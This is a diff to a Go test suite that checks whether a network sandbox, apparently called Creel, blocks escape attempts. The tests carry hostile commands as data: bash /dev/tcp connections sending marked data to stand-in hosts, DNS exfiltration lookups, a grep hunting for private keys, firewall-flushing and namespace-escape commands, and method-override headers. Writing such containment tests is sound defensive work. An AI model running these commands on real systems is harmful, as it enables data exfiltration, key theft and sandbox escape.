@@ -12,8 +12,8 @@ import (
 // the policy allows it or not: what gets through is seen.
 type arena struct {
 	*live
-	s *sink
-	n int
+	s   *sink
+	box box
 }
 
 const arenaRules = `network_policies:
@@ -49,12 +49,21 @@ func newArena(t *testing.T) *arena {
 	s := newSink(t)
 	b := box{policy: policyHead() + arenaRules, flags: join(s.upstreams("ok.test", "a.wild.test", "l4.test", "no.test", "evil-ok.test", "xok.test", "ok.test.no.test", "wild.test",
 		"a.b.wild.test", "evilwild.test", "ns.exf.test"), []string{"--trust-ca", caFile(t)})}
-	return &arena{live: b.start(t), s: s}
+	return &arena{live: b.start(t), s: s, box: b}
+}
+
+// fresh starts the sandbox anew: equal denials beyond a rate are counted only,
+// and each line of the catalogue is to see its own.
+func (a *arena) fresh(t *testing.T) {
+	t.Helper()
+	a.end()
+	a.live = a.box.start(t)
 }
 
 // attack is one try on one way in. Its bytes carry MARK, which must not arrive.
 type attack struct {
 	what string
+	way  string // empty: what it does tells it (see wire)
 	do   func(a *arena, mark string) string
 
 	silent bool // it ends before anything that could be an event: the sink alone decides
@@ -62,31 +71,28 @@ type attack struct {
 
 // run runs the attacks of one line of the catalogue, then the positive control.
 func (a *arena) run(t *testing.T, id string, attacks ...attack) {
-	t.Run("escape_"+id, func(t *testing.T) {
-		outer := a.t
-		a.t = t
-		defer func() { a.t = outer }()
-		for _, x := range attacks {
-			a.n++
-			mark := fmt.Sprintf("mark%s%d", strings.ReplaceAll(id, "-", ""), a.n)
-			seq := len(a.events())
-			got := x.do(a, mark)
-			if a.s.holds(mark) {
-				t.Errorf("%s: it reached the sink:\n%s", x.what, got)
+	if a.box.policy != "" {
+		a.fresh(t)
+	}
+	a.escape(t, a.s, id, a.works, func(x *line) {
+		for _, at := range attacks {
+			do := func(mark string) string { return at.do(a, mark) }
+			if at.silent {
+				x.unseen(at.way, at.what, do)
+			} else {
+				x.try(at.way, at.what, do)
 			}
-			if !x.silent {
-				e := a.denied(seq)
-				if strings.ContainsAny(e.Host+e.Path+e.Reason, "\r\n\x1b\x00") {
-					t.Errorf("%s: raw control bytes in the event: %+v", x.what, e)
-				}
-			}
-		}
-		a.n++
-		path := fmt.Sprintf("/public/control%d", a.n)
-		if got := a.sh("curl -sS https://ok.test" + path); !a.s.got(path) {
-			t.Fatalf("the sandbox does not work afterwards: %s", got)
 		}
 	})
+}
+
+// works is the positive control: a permitted request arrives.
+func (a *arena) works(x *line) string {
+	path := "/public/" + x.mark()
+	if got := x.sh("curl -sS https://ok.test" + path); !a.s.got(path) {
+		return "the request does not arrive: " + got
+	}
+	return ""
 }
 
 // ways makes one attack of each way in out of a host and a request.
@@ -94,7 +100,8 @@ func ways(what, host, method, target string, lines ...string) (all []attack) {
 	for _, w := range []struct {
 		name, way string
 		tls       bool
-	}{{"transparent https", transparent, true}, {"transparent http", transparent, false}, {"connect https", connect, true}, {"connect http", connect, false}, {"absolute", absolute, false}} {
+	}{{"transparent https", transparent, true}, {"transparent http", transparent, false}, {"connect https", connect, true}, {"connect http", connect, false}, {"absolute", absolute, false},
+		{"cleared https", cleared, true}} {
 		all = append(all, attack{what: what + ", " + w.name, do: func(a *arena, mark string) string {
 			return a.request(w.way, host, w.tls, method, strings.ReplaceAll(target, "MARK", mark), lines...)
 		}})
@@ -106,7 +113,7 @@ func ways(what, host, method, target string, lines ...string) (all []attack) {
 func raw(what, payload string) (all []attack) {
 	for _, w := range []wire{
 		{Way: transparent, Host: "ok.test", TLS: true}, {Way: transparent, Host: "ok.test"}, {Way: connect, Host: "ok.test", TLS: true},
-		{Way: absolute, Host: "ok.test"},
+		{Way: absolute, Host: "ok.test"}, {Way: cleared, Host: "ok.test", TLS: true},
 	} {
 		all = append(all, attack{what: what + ", " + w.Way, do: func(a *arena, mark string) string {
 			text := strings.ReplaceAll(payload, "MARK", mark)
@@ -122,8 +129,32 @@ func raw(what, payload string) (all []attack) {
 	return all
 }
 
+// script is an attack by a shell; its way in is told by how it calls curl.
 func script(text string) attack {
-	return attack{what: text, do: func(a *arena, mark string) string { return a.sh(strings.ReplaceAll(text, "MARK", mark)) }}
+	way := transparent
+	switch {
+	case strings.Contains(text, "env -i"):
+		way = cleared
+	case strings.Contains(text, "curl") && strings.Contains(text, " -x ") && !strings.Contains(text, "https:"):
+		way = absolute
+	case strings.Contains(text, proxyAddr):
+		way = connect
+	}
+	return attack{what: text, way: way, do: func(a *arena, mark string) string { return a.sh(strings.ReplaceAll(text, "MARK", mark)) }}
+}
+
+// everyWay makes one script of each way in out of one that calls curl.
+func everyWay(texts ...string) (all []attack) {
+	for _, t := range texts {
+		for _, curl := range []string{"curl -m 10 ", "curl -m 10 -x http://" + proxyAddr + " ", "curl -m 10 -p -x http://" + proxyAddr + " ", "env -i /usr/bin/curl -m 10 "} {
+			x := script(strings.ReplaceAll(t, "curl ", curl))
+			if strings.Contains(curl, "-p -x") {
+				x.way = connect
+			}
+			all = append(all, x)
+		}
+	}
+	return all
 }
 
 func scripts(list ...string) (all []attack) {
@@ -201,13 +232,9 @@ func TestEscapeHTTP(t *testing.T) {
 			dots = append(dots, ways("path "+p, "ok.test", "GET", p)...)
 		}
 		// What arrives must be what the rules allow: not the mark but the path decides here.
-		t.Run("escape_HTTP-02", func(t *testing.T) {
-			outer := a.t
-			a.t = t
-			defer func() { a.t = outer }()
-			for _, x := range dots {
-				a.n++
-				got := x.do(a, fmt.Sprintf("dot%d", a.n))
+		a.escape(t, a.s, "HTTP-02", a.works, func(l *line) {
+			for i, x := range dots {
+				got := x.do(a, fmt.Sprintf("dot%d", i))
 				for _, r := range a.s.requests() {
 					if !strings.HasPrefix(r.URI, "/public/") || strings.HasPrefix(r.URI, "/public/secret") || strings.Contains(r.URI, "..") || strings.Contains(strings.ToLower(r.URI), "%2e") ||
 						strings.Contains(strings.ToLower(r.URI), "%5c") || strings.Contains(strings.ToLower(r.URI), "%2f") {
@@ -257,7 +284,7 @@ func TestEscapeHTTP(t *testing.T) {
 		}}, {what: "proxy through the proxy", do: func(a *arena, mark string) string {
 			return a.wire(wire{Way: connect, Host: "127.0.0.1", Port: 3128, Payload: []byte("GET http://no.test/" + mark + " HTTP/1.1\r\nHost: no.test\r\n\r\n")})
 		}}})...)
-		t.Run("escape_HTTP-10", func(t *testing.T) {
+		a.escape(t, a.s, "HTTP-10", a.works, func(t *line) {
 			for i, h := range []string{"X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X_HTTP_Method_Override: DELETE", "x-http-method-override: DELETE"} {
 				for _, way := range []struct {
 					way string
@@ -329,16 +356,18 @@ func TestEscapeTLS(t *testing.T) {
 			t.Errorf("a hello in pieces: %s", got)
 		}
 		a.run(t, "TLS-03-pieces", tls("no SNI in pieces", wire{Way: transparent, Host: "ok.test", NoSNI: true, Pieces: true}), tls("wrong SNI in pieces", wire{Way: connect, Host: "l4.test", SNI: "no.test", Pieces: true}))
-		t.Run("escape_TLS-06", func(t *testing.T) {
-			// Plain HTTP on 443 is judged as a request there and never passed on blindly.
-			seq := len(a.events())
-			a.wire(wire{Way: transparent, Host: "ok.test", Port: 443, Payload: []byte("GET /private/plain443 HTTP/1.1\r\nHost: ok.test:443\r\n\r\n")})
-			a.denied(seq)
-			if a.s.holds("plain443") {
-				t.Error("it reached the sink")
-			}
-		})
-		t.Run("escape_TLS-05", func(t *testing.T) {
+		// Plain HTTP on 443 is judged as a request there and never passed on blindly.
+		a.run(t, "TLS-06", attack{what: "plain HTTP on 443", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: transparent, Host: "ok.test", Port: 443, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test:443\r\n\r\n")})
+		}}, attack{what: "plain HTTP in a tunnel to 443", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: connect, Host: "ok.test", Port: 443, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test:443\r\n\r\n")})
+		}}, attack{what: "absolute-form with port 443", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: absolute, Payload: []byte("GET http://ok.test:443/public/" + mark + " HTTP/1.1\r\nHost: ok.test:443\r\n\r\n")})
+		}}, attack{what: "another protocol on 443", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: cleared, Host: "ok.test", Port: 443, Payload: []byte("SSH-2.0-" + mark + "\r\n")})
+		}})
+		a.escape(t, a.s, "TLS-05", a.works, func(t *line) {
+			t.way(inside)
 			got := a.sh(`grep -rl --include='*.pem' --include='*.key' --include='*.crt' 'PRIVATE KEY' / 2>/dev/null | grep -v '^/proc\|^/usr/share\|^/etc/ssl/private'; openssl x509 -in /run/creel/ca.pem -noout -text | grep -c 'CA:TRUE'; ls /run/creel`)
 			if strings.Contains(got, "creel") && strings.Contains(got, "key") {
 				t.Errorf("a key inside: %s", got)
@@ -380,7 +409,8 @@ func TestEscapeAddresses(t *testing.T) {
 			"curl -sS -m 5 --resolve ok.test:80:203.0.113.9 http://ok.test/public/MARK")...)
 
 		a.run(t, "DNS-01", quiet(scripts("getent hosts MARK.ns.exf.test; ping -c1 -W1 MARK.ns.exf.test"))...)
-		t.Run("escape_DNS-03_DNS-05_DNS-06_DNS-07", func(t *testing.T) {
+		a.escape(t, a.s, "DNS-03_DNS-05_DNS-06_DNS-07", a.works, func(t *line) {
+			t.way(transparent)
 			// Whatever server is asked, Creel answers: addresses that stand for the name, and nothing else.
 			for _, server := range []string{"", "8.8.8.8", "1.1.1.1", "[2001:4860:4860::8888]", "127.0.0.1", "tcp:8.8.4.4", "tcp:[2001:4860:4860::8888]"} {
 				got := a.probe("dns", server, "anything.no.test")
@@ -409,11 +439,12 @@ func TestEscapeNetwork(t *testing.T) {
 		a := newArena(t)
 		a.run(t, "NET-02", attacks(scripts("bash -c 'exec 3<>/dev/tcp/no.test/443; echo MARK >&3; cat <&3'", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443; echo MARK >&3; cat <&3'",
 			"env -i /usr/bin/curl -sS -m 5 http://no.test/MARK", "env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/no.test/22; echo MARK >&3; cat <&3'"))...)
-		a.run(t, "NET-03", attack{what: "ports", do: func(a *arena, mark string) string {
+		a.run(t, "NET-03", attack{what: "ports", way: transparent, do: func(a *arena, mark string) string {
 			x := a.probe("sweep", "no.test", mark)
 			return string(x.Stdout) + string(x.Stderr)
 		}})
-		t.Run("escape_NET-06_NET-10", func(t *testing.T) {
+		a.escape(t, a.s, "NET-06_NET-10", a.works, func(t *line) {
+			t.way(transparent)
 			x := a.probe("sockets")
 			if x.Code != 0 {
 				t.Errorf("%s%s", x.Stdout, x.Stderr)
@@ -427,7 +458,8 @@ func TestEscapeNetwork(t *testing.T) {
 				return e.Kind == audit.Refused && e.Protocol == "udp" && e.Host == "192.0.2.5"
 			})
 		})
-		t.Run("escape_NET-07_NET-09", func(t *testing.T) {
+		a.escape(t, a.s, "NET-07_NET-09", a.works, func(t *line) {
+			t.way(inside)
 			for _, c := range []string{"nft flush ruleset", "nft list ruleset", "iptables -t nat -F", "ip route del default", "ip link set lo down", "ip addr add 10.9.9.9/8 dev lo", "nsenter -t 1 -n true",
 				"unshare -n true", "unshare -Urn true", "unshare -U true", "ip netns add x", "sysctl -w net.ipv4.ip_forward=1", "nsenter --net=/proc/1/ns/net true"} {
 				if x := a.do("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; "+c); x.Code == 0 {
@@ -435,7 +467,8 @@ func TestEscapeNetwork(t *testing.T) {
 				}
 			}
 		})
-		t.Run("escape_NET-16", func(t *testing.T) {
+		a.escape(t, a.s, "NET-16", a.works, func(x *line) {
+			x.way(inside)
 			// From the host nothing of the sandbox can be reached: no listener is in its namespace.
 			for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
 				if text := readFile(t, f); strings.Contains(text, ":0C38 ") || strings.Contains(text, ":7919 ") {
